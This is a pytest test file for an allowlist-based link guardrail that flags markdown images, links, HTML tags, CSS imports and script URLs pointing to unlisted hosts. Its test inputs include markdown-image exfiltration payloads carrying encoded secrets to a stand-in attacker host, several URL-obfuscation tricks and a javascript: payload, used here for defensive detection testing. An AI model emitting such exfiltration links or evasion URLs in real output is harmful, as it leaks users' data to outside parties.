import pytest

from tollhouse.privacy.guardrails.links import Links

MUST_CATCH = [
    ("image", "evil.example", "![x](https://evil.example/p.png?d=c2VjcmV0)"),
    ("image", "evil.example", "![](<https://evil.example/p.png>)"),
    ("image", "evil.example", "![x]( http://evil.example)"),
    ("image", "evil.example", '<img src="https://evil.example/a.gif">'),
    ("image", "evil.example", "<IMG alt=x SRC=//evil.example/a.gif>"),
    ("image", "evil.example", "<div style=\"background:url('https://evil.example/a')\">"),
    ("image", "evil.example", "@import 'https://evil.example/a.css'"),
    ("image", "evil.example", "<iframe src='https://evil.example'></iframe>"),
    ("image", "evil.example", "See ![chart][c].\n\n[c]: https://evil.example/p.png"),
    ("image", "evil.example", "![c]\n\n[C]: <https://evil.example/p.png>"),
    ("link", "evil.example", "[here](https://evil.example/?q=secret)"),
    ("link", "evil.example", "[here][1]\n\n[1]: https://evil.example/"),
    ("link", "evil.example", '<a href="http://evil.example">x</a>'),
    ("link", "evil.example", "Go to https://evil.example/now."),
    ("link", "evil.example", "<https://evil.example>"),
    ("link", "evil.example", "https:evil.example"),
    ("link", "evil.example", "HTTPS:\\\\evil.example\\a"),
    ("link", "evil.example", "Siehe:https://evil.example"),
    ("link", "evil.example", "app://evil.example/x"),
    ("link", "www.evil.example", "visit www.evil.example today"),
    ("link", "evil.example", "ftp://evil.example/file"),
    ("link", "evil.example:8443", "https://evil.example:8443/"),
    ("link", "good.example@evil.example", "https://good.example@evil.example/"),
    ("link", "good.example.evil.example", "https://good.example.evil.example/"),
    ("link", "notgood.example", "https://notgood.example/"),
    ("link", "evil.example%2f.sub.example", "https://evil.example%2f.sub.example/"),
    ("link", "evil.example%00.good.example", "https://evil.example%00.good.example/"),
    ("link", "10.0.0.1", "http://10.0.0.1/"),
    ("link", "[::1]", "http://[::1]/"),
    ("link", "gооd.example", "https://gооd.example/"),  # Cyrillic о
    ("script", "javascript:alert(1", "[x](javascript:alert(1))"),
]

MUST_NOT_CATCH = [
    "https://good.example/a?b=c",
    "![logo](https://good.example/logo.png)",
    "https://GOOD.example:443/",
    "https://a.sub.example and https://b.c.sub.example/",
    "Write to mailto:ana@evil.example or tel:+41445556677.",
    "![dot](data:image/png;base64,iVBORw0KGgo=)",
    "[chapter](#two) and [file](docs/a.md) and [up](/home)",
    "Either // comment or a path C:\\Temp\\a.",
    "Use https: it is safer.",
    "The ratio is 3:4, and/or 5//2.",
    "ana@evil.example",
    "",
]


@pytest.fixture(scope="module")
def guardrail() -> Links:
    return Links(["good.example", "*.sub.example"])


@pytest.mark.parametrize(("rule", "host", "text"), MUST_CATCH)
def test_a_way_to_a_host_that_is_not_listed_is_found_with_the_hosts_place(
    guardrail: Links, rule: str, host: str, text: str
) -> None:
    hits = list(guardrail.hits(text))

    assert [(hit.rule, text[hit.start : hit.end]) for hit in hits] == [(rule, host)]


@pytest.mark.parametrize("text", MUST_NOT_CATCH)
def test_what_leads_nowhere_or_to_a_listed_host_is_let_through(guardrail: Links, text: str) -> None:
    assert list(guardrail.hits(text)) == []


def test_without_a_list_every_host_is_foreign() -> None:
    assert [hit.rule for hit in Links().hits("https://good.example ![](https://good.example/a)")] == ["link", "image"]


def test_a_name_below_a_listed_one_is_foreign_unless_the_list_says_so() -> None:
    assert list(Links(["good.example"]).hits("https://a.good.example"))
    assert list(Links(["*.good.example"]).hits("https://good.example"))
